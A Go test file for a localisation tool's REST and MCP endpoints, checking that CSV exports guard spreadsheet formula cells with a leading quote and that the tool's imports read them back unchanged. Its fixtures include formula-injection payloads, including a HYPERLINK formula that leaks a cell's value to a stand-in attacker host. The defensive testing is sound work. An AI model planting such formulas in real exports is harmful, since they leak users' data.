package rest_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/lokal-dev/lokal/tools/formats"
)

// TestAPICSVFormulas: texts a spreadsheet would run as a formula, planted by a sync (as
// the Embed harvest plants them), come out of a CSV export guarded by a leading quote, and
// lokal's import of that file gives every text back unchanged; csv_cells=raw writes and
// reads the cells as they are; a bad csv_cells is refused in the error shape.
func TestAPICSVFormulas(t *testing.T) {
	t.Parallel()
	texts := map[string]string{
		"link": `=HYPERLINK("http://evil.test/?leak="&A1,"click")`, "neg": "-5", "plus": "+1", "at": "@SUM(A1)",
		"quoted": "'=1", "tis": "'tis", "tab": "\tlead", "=key": "plain",
	}
	forEachDialect(t, func(t *testing.T, s *server) {
		s.sync(t, "en", "harvest", texts)
		get := func(query string) string {
			t.Helper()
			r := s.call(t, "GET", s.readPath("en", "harvest")+"?format=csv"+query, tokenAuth(s.ro), nil).wantStatus(t, http.StatusOK)
			return string(r.body)
		}
		guarded := get("")
		for _, want := range []string{`"'=HYPERLINK(""http://evil.test/`, "\nneg,'-5\n", "\nplus,'+1\n", "\nat,'@SUM(A1)\n",
			"\nquoted,''=1\n", "\ntis,'tis\n", "\ntab,'\tlead\n", "\n'=key,plain\n"} {
			if !strings.Contains(guarded, want) {
				t.Errorf("the export lacks %q:\n%s", want, guarded)
			}
		}
		cells, err := formats.Decode("csv", []byte(guarded), formats.Options{Language: "en", RawCells: true})
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range cells.Entries {
			if v := e.Values["en"].Text; strings.ContainsAny(e.Key[:1], "=+-@\t\r") || strings.ContainsAny(v[:1], "=+-@\t\r") {
				t.Errorf("a spreadsheet would run %q, %q", e.Key, v)
			}
		}
		// lokal's import of its own export: the same texts, in place and in a new namespace.
		if out := s.importFile(t, "en", "harvest", "format=csv&preserve_source_values=false", guarded); out.Summary.Unchanged != len(texts) || len(out.Updated) != 0 {
			t.Errorf("re-importing the export changed texts: %+v updated %v", out.Summary, out.Updated)
		}
		s.importFile(t, "en", "copy", "format=csv", guarded)
		s.wantFlat(t, "en", "harvest", texts)
		s.wantFlat(t, "en", "copy", texts)

		// Raw cells: written as they are, and read as they are.
		raw := get("&csv_cells=raw")
		if !strings.Contains(raw, `"=HYPERLINK(`) || !strings.Contains(raw, "\nneg,-5\n") || !strings.Contains(raw, "\nquoted,'=1\n") {
			t.Errorf("raw cells were guarded:\n%s", raw)
		}
		s.importFile(t, "en", "rawcopy", "format=csv&csv_cells=raw", raw)
		s.wantFlat(t, "en", "rawcopy", texts)
		s.importFile(t, "en", "kept", "format=csv&csv_cells=raw", "key,en\na,'=1\n")
		s.wantFlat(t, "en", "kept", map[string]string{"a": "'=1"})

		s.call(t, "GET", s.readPath("en", "harvest")+"?format=csv&csv_cells=bogus", tokenAuth(s.ro), nil).wantStatus(t, http.StatusBadRequest).wantError(t, "invalid")
		s.call(t, "GET", s.readPath("en", "harvest")+"?format=po&csv_cells=raw", tokenAuth(s.ro), nil).wantStatus(t, http.StatusBadRequest).wantError(t, "invalid")
		s.call(t, "PUT", s.importPath("en", "harvest", "format=csv&csv_cells=bogus"), tokenAuth(s.rw), "key,en\na,b\n").wantStatus(t, http.StatusBadRequest).wantError(t, "invalid")
		s.wantFlat(t, "en", "harvest", texts)
	})
}

// TestMCPCSVFormulas: get_translations guards the formula cells of a csv file, raw on
// request, and import_translations reads lokal's guarded file back unchanged.
func TestMCPCSVFormulas(t *testing.T) {
	t.Parallel()
	forEachDialect(t, func(t *testing.T, s *server) {
		texts := map[string]string{"link": `=HYPERLINK("http://evil.test","x")`, "quoted": "'=1"}
		s.sync(t, "en", "harvest", texts)
		m := s.mcpProject(t, tokenAuth(s.rw))
		type file struct {
			Content string `json:"content"`
		}
		guarded := mcpOK[file](t, m, "get_translations", map[string]any{"language": "en", "namespace_key": "harvest", "format": "csv"}).Content
		if !strings.Contains(guarded, "\nlink,\"'=HYPERLINK(") || !strings.Contains(guarded, "\nquoted,''=1") {
			t.Errorf("get_translations wrote live formulas:\n%s", guarded)
		}
		raw := mcpOK[file](t, m, "get_translations", map[string]any{"language": "en", "namespace_key": "harvest", "format": "csv", "csv_cells": "raw"}).Content
		if !strings.Contains(raw, "\nlink,\"=HYPERLINK(") {
			t.Errorf("raw cells were guarded:\n%s", raw)
		}
		file1 := "key,en\nlink,\"'=HYPERLINK(\"\"http://evil.test\"\",\"\"x\"\")\"\nquoted,''=1\n"
		mcpOK[importOut](t, m, "import_translations", map[string]any{"namespace_key": "copy", "language": "en", "format": "csv", "content": file1})
		s.wantFlat(t, "en", "copy", texts)
		mcpErr(t, m, "get_translations", map[string]any{"language": "en", "format": "json", "csv_cells": "raw"}, "invalid")
	})
}
